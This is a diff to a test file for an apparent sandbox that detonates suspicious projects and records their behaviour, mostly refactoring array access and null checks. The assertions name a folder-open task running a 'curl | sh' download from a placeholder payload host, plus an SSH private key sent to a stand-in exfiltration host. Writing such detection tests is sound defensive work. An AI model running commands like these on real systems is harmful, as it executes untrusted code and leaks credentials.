@@ -82,8 +82,8 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
   it('open: runs the folder-open task from the execution map; the curl | sh is recorded and its response executed', async () => {
     const r = await detonate(fixture('open-curl'), { ...base, phases: ['open'], scanRules: [folderOpenMap] });
     assert.equal(r.command, 'detonate');
-    assert.equal(r.executionMap[0]?.trigger, 'open');
-    assert.match(r.executionMap[0]?.command ?? '', /curl -s http:\/\/payload\.example\.invalid\/linux\.sh \| sh/);
+    assert.equal(r.executionMap.at(0)?.trigger, 'open');
+    assert.match(r.executionMap.at(0)?.command ?? '', /curl -s http:\/\/payload\.example\.invalid\/linux\.sh \| sh/);
     assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'http://payload.example.invalid/linux.sh'), 'HTTP sink saw the request');
     assert.ok(kinds(r, 'dns').some(b => b.detail?.['name'] === 'payload.example.invalid'));
     assert.ok(kinds(r, 'process').some(b => b.summary.startsWith('curl ')));
@@ -101,8 +101,10 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     assert.ok(reads.some(f => /SSH private key/.test(f.message) && f.severity === 'critical'));
     assert.ok(reads.some(f => /sent to exfil\.example\.invalid/.test(f.message)));
     const post = kinds(r, 'http').find(b => b.detail?.['method'] === 'POST');
-    assert.equal(post?.detail?.['host'], 'exfil.example.invalid');
-    assert.deepEqual(post?.detail?.['honeytokens'], ['ssh-key']);
+    assert.ok(post, 'the POST was recorded');
+    const sent = post.detail ?? {};
+    assert.equal(sent['host'], 'exfil.example.invalid');
+    assert.deepEqual(sent['honeytokens'], ['ssh-key']);
     assert.equal(ruleHits(r, 'runtime/network-egress')[0]?.severity, 'critical');
     assert.deepEqual(ruleHits(r, 'runtime/network-egress')[0]?.location, { file: 'package.json', line: 6 });
     assert.ok(!kinds(r, 'honeytoken').some(b => b.detail?.['token'] === 'npm-token' && b.detail['expectedReader'] !== true), "npm's own read of ~/.npmrc is expected");
@@ -113,8 +115,8 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     const phase = kinds(r, 'phase')[0];
     assert.match(phase?.summary ?? '', /listening/);
     const steps = phase?.detail?.['steps'] as { port?: number; requests?: { path: string; status?: number }[] }[];
-    assert.equal(steps[0]?.port, 3000);
-    assert.ok(steps[0]?.requests?.some(q => q.path === '/api/health' && q.status === 200));
+    assert.equal(steps.at(0)?.port, 3000);
+    assert.ok(steps.at(0)?.requests?.some(q => q.path === '/api/health' && q.status === 200));
     assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'http://config.example.invalid/api/v1/settings'));
     assert.equal(ruleHits(r, 'runtime/remote-code-loaded')[0]?.severity, 'critical');
   });
